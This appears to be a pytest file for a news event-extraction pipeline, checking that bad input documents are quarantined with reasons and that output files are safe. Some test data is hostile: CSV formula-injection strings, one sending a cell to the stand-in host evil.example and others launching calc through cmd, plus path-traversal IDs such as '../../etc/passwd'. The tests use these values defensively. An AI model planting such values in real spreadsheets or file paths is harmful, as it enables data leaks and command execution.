"""Messy and hostile input through the real job: every bad document quarantined with a reason, nothing lost,
the good articles coded exactly as in a clean run, and outputs that are safe to open."""

from __future__ import annotations

import ast
import csv
import json
import random
import resource
import subprocess
import sys
import time
import tracemalloc
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

import polars as pl
import pytest

from extractor.cli import EXIT_FAILED, EXIT_OK, EXIT_QUARANTINED, main
from extractor.config import MAX_ARTICLE_CHARS, run_state_dir
from extractor.ingest import read_articles
from extractor.language import detect_language, unsupported_language
from extractor.nlp import batches
from extractor.records import Article, Quarantined
from extractor.spans import entities_in

from .conftest import CORPUS, REPO

FRENCH = ("Les forces du gouvernement d'union nationale ont repris vendredi le contrôle de Tarhouna, dernier bastion "
          "du maréchal Haftar dans l'ouest de la Libye, après de violents combats.")
ARABIC = "استعادت قوات حكومة الوفاق الوطني يوم الجمعة السيطرة على مدينة ترهونة، آخر معاقل حفتر في غرب ليبيا."
NOT_AN_EVENT_IN_HTML = ("<html><body><h1>Markets</h1><p>Shops in the old city opened as usual on Friday and "
                        "the weather was mild.</p><br><p>Prices of bread were stable.</p></body></html>")


def run_cli(input_path: Path, output: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "extractor", "run", "--input", str(input_path), "--output",
                           str(output)], cwd=REPO, capture_output=True, text=True, timeout=600)


def without_timestamp(path: Path) -> pl.DataFrame:
    return pl.read_parquet(path).drop("timestamp").sort("event_id_cnty")


@dataclass
class MixedCorpus:
    """The bundled articles with every kind of bad input between them, and the rejections to expect."""

    directory: Path
    expected: dict[tuple[str, int], str] = field(default_factory=dict)  # (file, line) -> reason prefix
    good: int = 0


def write_mixed_corpus(directory: Path) -> MixedCorpus:
    directory.mkdir()
    corpus = MixedCorpus(directory)
    seeds = [json.loads(line) for line in CORPUS.read_text(encoding="utf-8").splitlines()]
    lines: list[bytes] = []

    def good(record: dict) -> None:
        lines.append(json.dumps(record).encode())
        corpus.good += 1

    def bad(content: bytes | dict | str, reason: str) -> None:
        raw = json.dumps(content).encode() if isinstance(content, dict) else \
            content.encode() if isinstance(content, str) else content
        lines.append(raw)
        corpus.expected[("mixed.jsonl", len(lines))] = reason

    article = {"id": "x", "text": "Rebels attacked the town.", "published": "2020-06-05"}
    rng = random.Random(1)
    good(seeds[0])
    bad("{not json", "not valid JSON")
    good(seeds[1])
    bad('{"id": "latin", "text": "caf\xe9"}'.encode("latin-1"), "not valid UTF-8")
    bad({k: v for k, v in article.items() if k != "id"}, "missing `id`")
    bad({**article, "id": 7}, "`id` is a number")
    bad({**article, "id": "bell\x07"}, "`id` contains control characters")
    good(seeds[2])
    bad({k: v for k, v in article.items() if k != "published"}, "missing `published`")
    bad({**article, "id": "p1", "published": "last Friday"}, "`published` is not an ISO date")
    bad({**article, "id": "p2", "published": "2999-12-31"}, "`published` 2999-12-31 is in the future")
    bad({**article, "id": "p3", "published": "1899-12-31"}, "`published` 1899-12-31 is before 1900")
    bad({**seeds[0], "text": seeds[0]["text"] + " Updated."}, "duplicate `id` with different text")
    bad({k: v for k, v in article.items() if k != "text"}, "missing `text`")
    bad({**article, "id": "t1", "text": ""}, "empty `text`")
    bad({**article, "id": "t2", "text": " \n\t "}, "empty `text`")
    bad({**article, "id": "t3", "text": "".join(chr(rng.randrange(32)) for _ in range(3000))},
        "binary or garbled `text`")
    good(seeds[3])
    good({**article, "id": "html", "text": NOT_AN_EVENT_IN_HTML})
    bad({**article, "id": "t4", "text": "<div><script>track()</script><!-- menu --></div>"}, "no text left")
    bad({**article, "id": "huge", "text": "Rebels attacked the town. " * 400_000}, "`text` is too long")
    bad({**article, "id": "fr", "text": FRENCH}, "unsupported language: fr")
    bad({**article, "id": "ar", "text": ARABIC}, "unsupported language: ar")
    bad(json.dumps([article]), "line is an array")
    bad("3.14", "line is a number")
    bad("[" * 50_000 + "]" * 50_000, "not valid JSON: nested too deeply")
    bad(bytes(rng.randrange(256) for _ in range(500)).replace(b"\n", b"\x80"), "not valid UTF-8")
    good(seeds[4])
    lines.append(b"   ")  # blank lines are not documents
    (directory / "mixed.jsonl").write_bytes(b"\n".join(lines) + b"\n")

    (directory / "utf16.jsonl").write_text(json.dumps(article) + "\n", encoding="utf-16")
    corpus.expected[("utf16.jsonl", 0)] = "file is UTF-16 or UTF-32"
    latin1 = [json.dumps({**article, "id": f"l{i}", "text": "Clashes near Tarhuna, café"}, ensure_ascii=False)
              for i in range(2)]
    (directory / "latin1.jsonl").write_bytes("\n".join(latin1).encode("latin-1"))
    corpus.expected.update({("latin1.jsonl", 1): "not valid UTF-8", ("latin1.jsonl", 2): "not valid UTF-8"})
    (directory / "vanished.jsonl").symlink_to(directory / "deleted-before-the-run.jsonl")
    corpus.expected[("vanished.jsonl", 0)] = "cannot read the file: No such file or directory"
    return corpus


def test_mixed_corpus_codes_the_good_articles_as_a_clean_run_and_quarantines_each_bad_one(tmp_path, bundled_run):
    corpus = write_mixed_corpus(tmp_path / "corpus")
    output = tmp_path / "output"
    started = time.monotonic()
    completed = run_cli(corpus.directory, output)
    seconds = time.monotonic() - started

    assert "Traceback" not in completed.stderr, completed.stderr
    assert completed.returncode == EXIT_QUARANTINED, completed.stderr
    _, clean_output = bundled_run
    assert without_timestamp(output / "events.parquet").equals(without_timestamp(clean_output / "events.parquet"))

    quarantine = pl.read_parquet(output / "quarantine.parquet").filter(pl.col("stage") == "ingest")
    rows = {(r["input_file"], r["line_no"]): r["reason"] for r in quarantine.iter_rows(named=True)}
    assert quarantine.height == len(rows) == len(corpus.expected)  # one row per bad document
    assert rows.keys() == corpus.expected.keys()
    for key, prefix in corpus.expected.items():
        assert rows[key].startswith(prefix), (key, rows[key])
    assert pl.read_csv(output / "quarantine.csv").filter(pl.col("stage") == "ingest").height == quarantine.height

    report = json.loads((output / "run.json").read_text())
    assert report["docs_quarantined"] == len(corpus.expected)
    assert report["docs_seen"] == report["docs_processed"] + report["docs_cached"] + report["docs_quarantined"]
    assert report["docs_processed"] + report["docs_cached"] == corpus.good
    assert seconds < 300
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < 3 * 1024 * 1024  # KiB: under 3 GiB


def test_exit_codes_tell_success_from_quarantine_from_failure(tmp_path, capsys):
    output = tmp_path / "clean"
    assert main(["run", "--input", str(CORPUS), "--output", str(output)]) == EXIT_OK
    published = {p.name: p.stat().st_mtime_ns for p in output.iterdir()}
    assert main(["run", "--input", str(tmp_path / "no-such-input"), "--output", str(output)]) == EXIT_FAILED
    assert "input not found" in capsys.readouterr().err
    (tmp_path / "empty").mkdir()
    assert main(["run", "--input", str(tmp_path / "empty"), "--output", str(output)]) == EXIT_FAILED
    assert "no *.jsonl files" in capsys.readouterr().err
    assert {p.name: p.stat().st_mtime_ns for p in output.iterdir()} == published  # the release is untouched
    (tmp_path / "one-bad-line.jsonl").write_text(CORPUS.read_text(encoding="utf-8") + "{oops\n", encoding="utf-8")
    assert main(["run", "--input", str(tmp_path / "one-bad-line.jsonl"), "--output", str(output)]) == EXIT_QUARANTINED


HOSTILE_SOURCES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Al Jazeera")', "@SUM(1+1)*cmd|' /C calc'!A0",
                   "+1-1", "-2+3", "../../../../tmp/escape/source"]
HOSTILE_IDS = ["=1+1", "../../etc/passwd", "/tmp/absolute", "-doc", "@home/../../x"]


def test_hostile_ids_and_sources_are_neutralised_in_csv_only_and_never_reach_paths(tmp_path):
    seeds = [json.loads(line) for line in CORPUS.read_text(encoding="utf-8").splitlines()]
    corpus = tmp_path / "in"
    corpus.mkdir()
    hostile = [{**seed, "id": doc_id, "source": source}
               for seed, doc_id, source in zip(seeds, HOSTILE_IDS, HOSTILE_SOURCES)]
    hostile.append({"id": "=cmd|' /C calc'!A0", "text": "x", "published": "yesterday"})
    (corpus / "hostile.jsonl").write_text("".join(json.dumps(r) + "\n" for r in hostile), encoding="utf-8")
    before = {p for p in tmp_path.rglob("*")}
    output = tmp_path / "out"
    completed = run_cli(corpus, output)
    assert completed.returncode == EXIT_QUARANTINED and "Traceback" not in completed.stderr, completed.stderr

    created = {p for p in tmp_path.rglob("*")} - before
    state = run_state_dir(output.resolve())
    assert all(p.resolve().is_relative_to(output.resolve()) or p.resolve().is_relative_to(state.parent.parent)
               for p in created), created
    assert not any(part in p.name for p in created for part in ("passwd", "escape", "absolute", "calc"))
    assert not Path("/tmp/escape").exists()

    bad_id = hostile[-1]["id"]
    for table, column, is_raw in (
            ("events", "source", lambda v: set(v.split("; ")) <= set(HOSTILE_SOURCES)),
            ("mentions", "doc_id", lambda v: v in HOSTILE_IDS),
            ("quarantine", "doc_id", lambda v: v in [*HOSTILE_IDS, bad_id, ""])):
        parquet = pl.read_parquet(output / f"{table}.parquet")[column].to_list()
        with (output / f"{table}.csv").open(newline="", encoding="utf-8") as handle:
            cells = [row[column] for row in csv.DictReader(handle)]
        assert all(is_raw(v) for v in parquet), parquet  # Parquet keeps the values as given ...
        dangerous = [v for v in parquet if v[:1] in ("=", "+", "-", "@")]
        assert dangerous, (table, parquet)
        for raw, cell in zip(parquet, cells, strict=True):  # ... the CSV defuses them, and only them
            assert cell == ("'" + raw if raw in dangerous else raw)
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
    assert bad_id in pl.read_parquet(output / "quarantine.parquet")["doc_id"].to_list()


def test_no_pickle_eval_or_exec_in_the_package():
    """Nothing executable is loaded from data: no pickle-like modules, no eval/exec, no allow_pickle."""
    forbidden_modules = {"pickle", "_pickle", "cPickle", "cloudpickle", "dill", "joblib", "marshal", "shelve"}
    sources = sorted((REPO / "extractor").rglob("*.py")) + sorted((REPO / "schema").rglob("*.py"))
    assert len(sources) > 10
    problems = []
    for path in sources:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Import):
                problems += [(path.name, a.name) for a in node.names if a.name.split(".")[0] in forbidden_modules]
            elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in forbidden_modules:
                problems.append((path.name, node.module))
            elif isinstance(node, ast.Call):
                if isinstance(node.func, ast.Name) and node.func.id in ("eval", "exec", "compile", "__import__"):
                    problems.append((path.name, node.func.id))
                if isinstance(node.func, ast.Attribute) and node.func.attr in ("read_pickle", "load_pickle"):
                    problems.append((path.name, node.func.attr))
                problems += [(path.name, "allow_pickle") for k in node.keywords
                             if k.arg == "allow_pickle" and not (isinstance(k.value, ast.Constant) and not k.value.value)]
    assert problems == []


def test_a_10_mb_article_is_quarantined_quickly_in_bounded_memory(tmp_path):
    path = tmp_path / "big.jsonl"
    big = {"id": "big", "text": "Rebels attacked the town. " * 400_000, "published": "2020-06-05"}
    path.write_text(json.dumps(big) + "\n" + json.dumps({**big, "id": "small", "text": "Fine."}) + "\n")
    assert len(big["text"]) > 10_000_000 > MAX_ARTICLE_CHARS
    tracemalloc.start()
    started = time.monotonic()
    records = list(read_articles(path))
    seconds = time.monotonic() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert isinstance(records[0], Quarantined) and records[0].reason.startswith("`text` is too long: 10,400,000")
    assert isinstance(records[1], Article)
    assert seconds < 10 and peak < 200 * 1024 * 1024


def test_the_article_limit_is_within_what_spacy_accepts(nlp):
    assert MAX_ARTICLE_CHARS <= nlp.max_length


def test_nlp_batches_are_bounded_by_count_and_characters():
    articles = [Article(id=str(i), text="x" * size, published=date(2020, 1, 1))
                for i, size in enumerate([10, 10, 10, 500, 10, 10, 10, 10])]
    assert [[a.id for a in b] for b in batches(articles, 3, 100)] == [["0", "1", "2"], ["3"], ["4", "5", "6"], ["7"]]


def test_entities_in_a_span_are_those_spacy_gives(nlp, seed_articles):
    for record in seed_articles.values():
        doc = nlp(record["text"])
        for span in [*doc.sents, *(doc[i:i + 7] for i in range(0, len(doc), 5))]:
            assert [(e.start, e.end, e.label_, e.ent_id_) for e in entities_in(span)] == \
                [(e.start, e.end, e.label_, e.ent_id_) for e in span.ents]


def test_an_article_with_thousands_of_place_and_actor_names_completes_in_bounded_time():
    from extractor.geo import Gazetteer
    from extractor.pipeline import extract, tables

    names = sorted(n for n in Gazetteer.load().place_names({"LY"}) if n.isascii() and n.replace(" ", "").isalpha())
    assert len(names) > 300
    sentences = [f"Rebels attacked {names[i % len(names)]} and clashed with the army and the militia."
                 for i in range(1000)]
    article = Article(id="many", text=" ".join(sentences), published=date(2020, 6, 6), source="Wire")
    started = time.monotonic()
    extraction = extract([article])
    events, mentions, _ = tables(extraction)
    seconds = time.monotonic() - started
    assert len(extraction.candidates) > 500 and events.height > 10
    assert seconds < 120, f"{seconds:.0f}s for 1000 sentences"


def test_language_detection_accepts_every_seed_article_and_sentence_and_is_fast(seed_articles):
    texts = [record["text"] for record in seed_articles.values()]
    assert all(detect_language(text)[0] == "en" for text in texts)
    sentences = [s for text in texts for s in text.replace("\n", ". ").split(". ") if s.strip()]
    assert len(sentences) > 100
    assert [s for s in sentences if unsupported_language(s)] == []
    started = time.monotonic()
    for i in range(200):
        detect_language(texts[i % len(texts)])
    assert 200 / (time.monotonic() - started) > 50  # documents a second (measured: ~650)


@pytest.mark.parametrize("code, text", [
    ("fr", FRENCH), ("ar", ARABIC),
    ("es", "Las fuerzas del Gobierno de Acuerdo Nacional tomaron el viernes el control de Tarhuna, último "
           "bastión de Haftar en el oeste de Libia."),
    ("ru", "Силы Правительства национального согласия в пятницу взяли под контроль Тархуну, последний оплот "
           "Хафтара на западе Ливии."),
    ("so", "Ciidamada dowladda ayaa maanta la wareegay gacan ku haynta magaalada, kadib dagaal culus oo ay la "
           "galeen maleeshiyaadka."),
    ("zh", "民族团结政府部队周五夺回了塔尔胡纳的控制权，这是哈夫塔尔在利比亚西部的最后据点。" * 3),
])
def test_non_english_news_is_detected(code, text):
    assert unsupported_language(text) == f"unsupported language: {code}"
